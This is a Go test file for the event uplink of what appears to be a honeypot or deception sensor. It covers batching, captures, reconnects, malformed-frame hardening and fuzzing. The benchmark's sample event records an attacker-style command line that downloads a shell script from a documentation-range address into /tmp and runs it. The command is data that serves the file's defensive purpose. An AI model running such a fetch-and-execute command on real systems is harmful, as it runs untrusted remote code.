package uplink

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/lapwing-defence/lapwing/internal/event"
)

// hub is a Handler that keeps everything in memory.
type hub struct {
	mu      sync.Mutex
	lines   []string
	batches int
	seqs    map[[16]byte]uint64
	files   map[string][]byte
	casts   map[string][]byte
	states  map[string]string
	full    event.Depth // this depth and shallower ones are refused
	fail    error
	most    int64
}

func newHub() *hub {
	return &hub{seqs: map[[16]byte]uint64{}, files: map[string][]byte{}, casts: map[string][]byte{}, states: map[string]string{}}
}

func (h *hub) Events(_ context.Context, b Batch) error {
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.fail != nil {
		return h.fail
	}
	if b.Depth != event.DepthNone && b.Depth <= h.full {
		return fmt.Errorf("no room: %w", ErrFull)
	}
	if b.Seq <= h.seqs[b.Client] {
		return nil
	}
	h.seqs[b.Client] = b.Seq
	h.batches++
	h.lines = append(h.lines, strings.Split(strings.TrimSuffix(string(b.Lines), "\n"), "\n")...)
	return nil
}

func (h *hub) Capture(_ context.Context, r io.Reader) (string, int64, error) {
	if h.most > 0 {
		r = io.LimitReader(r, h.most)
	}
	data, err := io.ReadAll(r)
	if err != nil {
		return "", 0, err
	}
	if h.most > 0 {
		return "", 0, errors.New("the store is full")
	}
	sum := sha256.Sum256(data)
	name := hex.EncodeToString(sum[:])
	h.mu.Lock()
	defer h.mu.Unlock()
	h.files[name] = data
	return name, int64(len(data)), nil
}

func (h *hub) Cast(_ context.Context, session string, offset int64, data []byte) error {
	h.mu.Lock()
	defer h.mu.Unlock()
	if offset == int64(len(h.casts[session])) {
		h.casts[session] = append(h.casts[session], data...)
	}
	return nil
}

func (h *hub) State(_ context.Context, key string, token uint64, data []byte) error {
	h.mu.Lock()
	defer h.mu.Unlock()
	if token != 7 {
		return ErrGone
	}
	h.states[key] = string(data)
	return nil
}

func (h *hub) Recall(_ context.Context, key string) (uint64, []byte, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	return 7, []byte(h.states[key]), nil
}

type rig struct {
	hub    *hub
	client *Client
	dial   func(context.Context) (net.Conn, error)
}

func newRig(t *testing.T, cfg ServerConfig, tweak func(*ClientConfig)) *rig {
	t.Helper()
	r := &rig{hub: newHub()}
	cfg.Handler = r.hub
	sock := filepath.Join(t.TempDir(), "s")
	ln, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(func() { cancel(); wg.Wait() })
	wg.Go(func() {
		if err := NewServer(cfg).ServeListener(ctx, ln); err != nil {
			t.Error(err)
		}
	})
	r.dial = func(ctx context.Context) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "unix", sock)
	}
	cc := ClientConfig{Name: "sensor", Dial: r.dial, Timeout: 3 * time.Second}
	if tweak != nil {
		tweak(&cc)
	}
	if r.client, err = NewClient(cc); err != nil {
		t.Fatal(err)
	}
	wg.Go(func() { r.client.Run(ctx) })
	return r
}

func ev(n int, d event.Depth) event.Event {
	return event.Event{ID: fmt.Sprintf("id-%d", n), Time: time.Unix(int64(n), 0), Depth: d, CommandLine: "uname -a"}
}

func TestEmit(t *testing.T) {
	r := newRig(t, ServerConfig{Stamp: func(name string, e *event.Event) { e.Observer = name + "!" }}, nil)
	var wg sync.WaitGroup
	for w := range 20 {
		wg.Go(func() {
			for n := range 50 {
				if err := r.client.Emit(t.Context(), ev(w*50+n, event.DepthAct)); err != nil {
					t.Error(err)
				}
			}
		})
	}
	wg.Wait()
	seen := map[string]bool{}
	for _, l := range r.hub.lines {
		e, err := event.Decode([]byte(l))
		if err != nil || e.Observer != "sensor!" {
			t.Fatalf("%s: %v", l, err)
		}
		seen[e.ID] = true
	}
	if len(r.hub.lines) != 1000 || len(seen) != 1000 {
		t.Errorf("%d lines, %d events", len(r.hub.lines), len(seen))
	}
	t.Logf("%d batches", r.hub.batches)
}

func TestEmitAllIsOneBatch(t *testing.T) {
	r := newRig(t, ServerConfig{}, nil)
	if err := r.client.EmitAll(t.Context(), ev(1, event.DepthAct), ev(2, event.DepthTouch), ev(3, event.DepthNone)); err != nil {
		t.Fatal(err)
	}
	if len(r.hub.lines) != 3 || r.hub.batches != 1 {
		t.Errorf("%d lines in %d batches", len(r.hub.lines), r.hub.batches)
	}
}

func TestFullKeepsTheDeep(t *testing.T) {
	r := newRig(t, ServerConfig{}, nil)
	r.hub.full = event.DepthTry
	var wg sync.WaitGroup
	for n := range 200 {
		wg.Go(func() {
			d := []event.Depth{event.DepthNone, event.DepthTouch, event.DepthTry, event.DepthEnter, event.DepthAct}[n%5]
			err := r.client.Emit(t.Context(), ev(n, d))
			if shallow := d == event.DepthTouch || d == event.DepthTry; shallow != errors.Is(err, ErrFull) {
				t.Errorf("%v: %v", d, err)
			}
		})
	}
	wg.Wait()
	if len(r.hub.lines) != 120 {
		t.Errorf("%d kept, want 120", len(r.hub.lines))
	}
}

// TestBrokenLinks cuts connections at random: what was acknowledged is there
// once.
func TestBrokenLinks(t *testing.T) {
	var mu sync.Mutex
	var conns []net.Conn
	var dial func(context.Context) (net.Conn, error)
	r := newRig(t, ServerConfig{}, func(c *ClientConfig) {
		dial = c.Dial
		c.Dial = func(ctx context.Context) (net.Conn, error) {
			conn, err := dial(ctx)
			mu.Lock()
			defer mu.Unlock()
			conns = append(conns, conn)
			return conn, err
		}
	})
	stop := make(chan struct{})
	var cutter sync.WaitGroup
	cutter.Go(func() {
		for {
			select {
			case <-stop:
				return
			case <-time.After(time.Duration(rand.IntN(20)) * time.Millisecond):
			}
			mu.Lock()
			for _, c := range conns {
				c.Close()
			}
			conns = nil
			mu.Unlock()
		}
	})
	var wg sync.WaitGroup
	var want [8][]byte
	for w := range 8 {
		wg.Go(func() {
			for n := range 60 {
				if err := r.client.Emit(t.Context(), ev(w*1000+n, event.DepthAct)); err != nil {
					t.Error(err)
				}
				chunk := fmt.Appendf(nil, "[%d,\"o\",\"%d\"]\n", n, w)
				if err := r.client.Cast(t.Context(), fmt.Sprint("s", w), chunk); err != nil {
					t.Error(err)
				}
				want[w] = append(want[w], chunk...)
			}
		})
	}
	wg.Wait()
	close(stop)
	cutter.Wait()
	if err := r.client.Flush(t.Context()); err != nil {
		t.Fatal(err)
	}
	seen := map[string]int{}
	for _, l := range r.hub.lines {
		seen[l]++
	}
	if len(r.hub.lines) != 480 || len(seen) != 480 {
		t.Errorf("%d lines, %d different, want 480", len(r.hub.lines), len(seen))
	}
	for w := range want {
		if got := r.hub.casts[fmt.Sprint("s", w)]; !bytes.Equal(got, want[w]) {
			t.Errorf("recording %d: %d bytes, want %d", w, len(got), len(want[w]))
		}
	}
	t.Logf("%+v", r.client.Stats())
}

func TestHubAway(t *testing.T) {
	r := newRig(t, ServerConfig{}, func(c *ClientConfig) {
		c.Timeout = 100 * time.Millisecond
		c.Dial = func(context.Context) (net.Conn, error) { return nil, errors.New("no route") }
	})
	if err := r.client.Emit(t.Context(), ev(1, event.DepthAct)); !errors.Is(err, ErrAway) {
		t.Errorf("Emit: %v", err)
	}
	if err := r.client.State(t.Context(), "k", 7, nil); !errors.Is(err, ErrAway) {
		t.Errorf("State: %v", err)
	}
	if _, _, err := r.client.Capture(t.Context(), strings.NewReader("x"), 10); !errors.Is(err, ErrAway) {
		t.Errorf("Capture: %v", err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Millisecond)
	defer cancel()
	if err := r.client.Emit(ctx, ev(1, event.DepthAct)); !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("Emit: %v", err)
	}
}

func TestCapture(t *testing.T) {
	r := newRig(t, ServerConfig{MaxCapture: 1 << 20}, nil)
	for _, n := range []int{0, 1, 1000, chunkSize, chunkSize + 1, 700_000} {
		data := make([]byte, n)
		rand.NewChaCha8([32]byte{byte(n)}).Read(data)
		sum, size, err := r.client.Capture(t.Context(), bytes.NewReader(data), 1<<30)
		if err != nil || size != int64(n) || !bytes.Equal(r.hub.files[sum], data) {
			t.Errorf("%d bytes: %s %d %v", n, sum, size, err)
		}
	}
	if _, size, err := r.client.Capture(t.Context(), strings.NewReader(strings.Repeat("x", 5000)), 700); err != nil || size != 700 {
		t.Errorf("limited: %d %v", size, err)
	}
	errRead := errors.New("the visitor left")
	sum, size, err := r.client.Capture(t.Context(), io.MultiReader(strings.NewReader("half"), errReader{errRead}), 700)
	if !errors.Is(err, errRead) || size != 4 || string(r.hub.files[sum]) != "half" {
		t.Errorf("broken off: %d %v", size, err)
	}
	if _, _, err = r.client.Capture(t.Context(), io.LimitReader(zeros{}, 3<<20), 1<<30); !errors.Is(err, ErrInvalid) {
		t.Errorf("too large: %v", err)
	}
	r.hub.most = 10
	if _, _, err = r.client.Capture(t.Context(), io.LimitReader(zeros{}, 900_000), 1<<30); err == nil || !strings.Contains(err.Error(), "the store is full") {
		t.Errorf("full: %v", err)
	}
	r.hub.most = 0
	if _, _, err = r.client.Capture(t.Context(), strings.NewReader("x"), 10); err != nil {
		t.Errorf("after all that: %v", err)
	}
}

type errReader struct{ err error }

func (r errReader) Read([]byte) (int, error) { return 0, r.err }

type zeros struct{}

func (zeros) Read(b []byte) (int, error) { clear(b); return len(b), nil }

func TestStateAndErrors(t *testing.T) {
	r := newRig(t, ServerConfig{}, nil)
	large := strings.Repeat("0123456789abcdef", 100_000) // of several parts
	for _, want := range []string{"snapshot", large, ""} {
		if err := r.client.State(t.Context(), "192.0.2.1", 7, []byte(want)); err != nil || r.hub.states["192.0.2.1"] != want {
			t.Errorf("state of %d bytes: %v, the hub has %d", len(want), err, len(r.hub.states["192.0.2.1"]))
		}
		token, got, err := r.client.Recall(t.Context(), "192.0.2.1")
		if err != nil || token != 7 || string(got) != want {
			t.Errorf("recall of %d bytes: %d bytes, token %d, %v", len(want), len(got), token, err)
		}
	}
	if err := r.client.State(t.Context(), "192.0.2.1", 6, []byte("old")); !errors.Is(err, ErrGone) {
		t.Errorf("state with an old token: %v", err)
	}
	if err := r.client.State(t.Context(), "k", 7, make([]byte, MaxState+1)); !errors.Is(err, ErrTooBig) {
		t.Errorf("too large a state: %v", err)
	}
	r.hub.fail = errors.New("disk on fire")
	if err := r.client.Emit(t.Context(), ev(1, event.DepthAct)); err == nil || !strings.Contains(err.Error(), "disk on fire") {
		t.Errorf("Emit: %v", err)
	}
	r.hub.fail = nil
	big := ev(1, event.DepthAct)
	big.CommandLine = strings.Repeat("x", event.MaxLine)
	if err := r.client.Emit(t.Context(), big); !errors.Is(err, ErrTooBig) {
		t.Errorf("Emit: %v", err)
	}
	if err := r.client.Emit(t.Context(), event.Event{}); !errors.Is(err, ErrInvalid) {
		t.Errorf("an event without an id: %v", err)
	}
}

// TestServerTrustsNothing sends what a captured worker could.
func TestServerTrustsNothing(t *testing.T) {
	hello := append(append(appendFrame(nil, kindHello, 1, 17), make([]byte, 16)...), 'x')
	f := func(k kind, payload string) string {
		return string(appendFrame(nil, k, 7, len(payload))) + payload
	}
	sum := strings.Repeat("\x00", 40)
	for name, in := range map[string]string{
		"no hello":       f(kindEvents, strings.Repeat("\x00", 20)),
		"two hellos":     string(hello) + string(hello),
		"huge frame":     string(hello) + "\xff\xff\xff\x7f\x02" + strings.Repeat("\x00", 8),
		"tiny frame":     string(hello) + "\x01\x00\x00\x00" + strings.Repeat("\x00", 9),
		"unknown kind":   string(hello) + f(kind(99), ""),
		"ack from below": string(hello) + f(kindAck, ""),
		"depth 200":      string(hello) + f(kindEvents, "\xc8\x01\x00\x00\x00\x00\x00\x00\x00{}\n"),
		"short events":   string(hello) + f(kindEvents, "\x01"),
		"bad end":        string(hello) + f(kindBlob, "") + f(kindEnd, "x"),
		"empty chunk":    string(hello) + f(kindBlob, "") + f(kindChunk, ""),
		"chunk flood":    string(hello) + f(kindBlob, "") + strings.Repeat(f(kindChunk, "abc"), 50),
		"end flood":      string(hello) + f(kindBlob, "") + strings.Repeat(f(kindEnd, sum), 50),
		"blob twice":     string(hello) + f(kindBlob, "") + f(kindBlob, ""),
	} {
		t.Run(name, func(t *testing.T) {
			a, b := net.Pipe()
			go io.Copy(io.Discard, a)
			go func() { io.WriteString(a, in) }()
			h := newHub()
			err := NewServer(ServerConfig{Handler: slowHub{h}}).Serve(t.Context(), b)
			if name != "end flood" && !errors.Is(err, ErrProtocol) {
				t.Errorf("ended with %v", err)
			}
			if len(h.lines) > 0 {
				t.Errorf("kept %q", h.lines)
			}
			a.Close()
		})
	}
}

// slowHub takes its time over captures.
type slowHub struct{ *hub }

func (h slowHub) Capture(ctx context.Context, r io.Reader) (string, int64, error) {
	select {
	case <-time.After(50 * time.Millisecond):
	case <-ctx.Done():
	}
	return h.hub.Capture(ctx, r)
}

func TestBadLinesAreRefused(t *testing.T) {
	r := newRig(t, ServerConfig{}, nil)
	conn, err := r.dial(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	l := newLink(conn, time.Second)
	defer l.close()
	go l.read()
	if _, err := l.call(kindHello, l.id(), make([]byte, 16), []byte("x")); err != nil {
		t.Fatal(err)
	}
	for _, lines := range []string{"\n", "{}\n", "junk\n", `{"event.id":"1"}`, `{"event.id":"1"}` + "\nx\n"} {
		if _, err := l.call(kindEvents, l.id(), make([]byte, 9), []byte(lines)); !errors.Is(err, ErrInvalid) {
			t.Errorf("%q: %v", lines, err)
		}
	}
	if len(r.hub.lines) > 0 {
		t.Errorf("kept %q", r.hub.lines)
	}
	if _, err := l.call(kindEvents, l.id(), append(make([]byte, 9), `{"event.id":"1"}`+"\n"...)); err != nil {
		t.Error(err)
	}
}

func FuzzFrames(f *testing.F) {
	f.Add(appendFrame(nil, kindEnd, 3, 0))
	f.Add(append(appendFrame(nil, kindCast, 1<<60, 4), "abcd"...))
	f.Add([]byte("\xff\xff\xff\xff"))
	f.Fuzz(func(t *testing.T, data []byte) {
		in := frameReader{r: bytes.NewReader(data)}
		var again []byte
		for {
			fr, err := in.next()
			if err != nil {
				break
			}
			again = append(appendFrame(again, fr.kind, fr.id, len(fr.payload)), fr.payload...)
			if name, rest, err := named(fr.payload); err == nil && 1+len(name)+len(rest) != len(fr.payload) {
				t.Fatal("a name of the wrong length")
			}
		}
		if !bytes.HasPrefix(data, again) {
			t.Fatalf("frames %x from %x", again, data)
		}
	})
}

func FuzzServer(f *testing.F) {
	hello := append(append(appendFrame(nil, kindHello, 1, 17), make([]byte, 16)...), 'x')
	line := `{"event.id":"1"}` + "\n"
	f.Add(append(bytes.Clone(hello), string(appendFrame(nil, kindEvents, 2, 9+len(line)))+strings.Repeat("\x00", 9)+line...))
	f.Add(append(bytes.Clone(hello), string(appendFrame(nil, kindBlob, 2, 0))+string(appendFrame(nil, kindChunk, 2, 3))+"abc"...))
	f.Add(append(bytes.Clone(hello), string(appendFrame(nil, kindState, 2, 3))+"\x01ab"...))
	f.Add(append(bytes.Clone(hello), string(appendFrame(nil, kindState, 2, 20))+"\x01a\x07\x00\x00\x00\x00\x00\x00\x00\x02\x00\x00\x00\x00\x00\x00\x00xy"...))
	f.Add(append(bytes.Clone(hello), string(appendFrame(nil, kindRecall, 2, 6))+"\x01a\x00\x00\x00\x00"...))
	f.Fuzz(func(t *testing.T, data []byte) {
		a, b := net.Pipe()
		go io.Copy(io.Discard, a)
		go func() {
			a.Write(data)
			a.Close()
		}()
		h := newHub()
		NewServer(ServerConfig{Handler: h, MaxCapture: 1 << 16}).Serve(t.Context(), b)
		for _, l := range h.lines {
			if e, err := event.Decode([]byte(l)); err != nil || e.ID == "" {
				t.Fatalf("kept %q", l)
			}
		}
	})
}

func BenchmarkEmit(b *testing.B) {
	for _, par := range []int{1, 32, 256} {
		b.Run(strconv.Itoa(par), func(b *testing.B) {
			sock := filepath.Join(b.TempDir(), "s")
			ln, err := net.Listen("unix", sock)
			if err != nil {
				b.Fatal(err)
			}
			ctx, cancel := context.WithCancel(b.Context())
			var wg sync.WaitGroup
			defer wg.Wait()
			defer cancel()
			srv := NewServer(ServerConfig{Handler: nullHub{}, MaxEvents: 1 << 30, MaxBytes: 1 << 40})
			wg.Go(func() { srv.ServeListener(ctx, ln) })
			c, err := NewClient(ClientConfig{Name: "x", Dial: func(ctx context.Context) (net.Conn, error) {
				var d net.Dialer
				return d.DialContext(ctx, "unix", sock)
			}})
			if err != nil {
				b.Fatal(err)
			}
			wg.Go(func() { c.Run(ctx) })
			e := event.Event{
				ID: "018f9d3c-7b2a-7c11-8a55-000000000001", Time: time.Now(), Kind: "event", Category: "process", Type: "start",
				Action: event.ActionCommandExecuted, Dataset: "decoy.ssh", Protocol: "ssh", Transport: "tcp", User: "root", Host: "files",
				Connection: "018f9d3c-7b2a-7c11-8a55-000000000002", Session: "018f9d3c-7b2a-7c11-8a55-000000000003",
				Depth: event.DepthAct, CommandLine: "cd /tmp; wget http://192.0.2.7/x.sh; sh x.sh",
			}
			b.SetParallelism(max(par/2, 1))
			b.ReportAllocs()
			b.RunParallel(func(pb *testing.PB) {
				for pb.Next() {
					if err := c.Emit(ctx, e); err != nil {
						b.Fatal(err)
					}
				}
			})
			b.ReportMetric(float64(c.Stats().Events)/float64(c.Stats().Batches), "events/batch-slot")
		})
	}
}

type nullHub struct{}

func (nullHub) Events(context.Context, Batch) error                       { return nil }
func (nullHub) Capture(context.Context, io.Reader) (string, int64, error) { return "", 0, nil }
func (nullHub) Cast(context.Context, string, int64, []byte) error         { return nil }
func (nullHub) State(context.Context, string, uint64, []byte) error       { return nil }
func (nullHub) Recall(context.Context, string) (uint64, []byte, error)    { return 0, nil, nil }
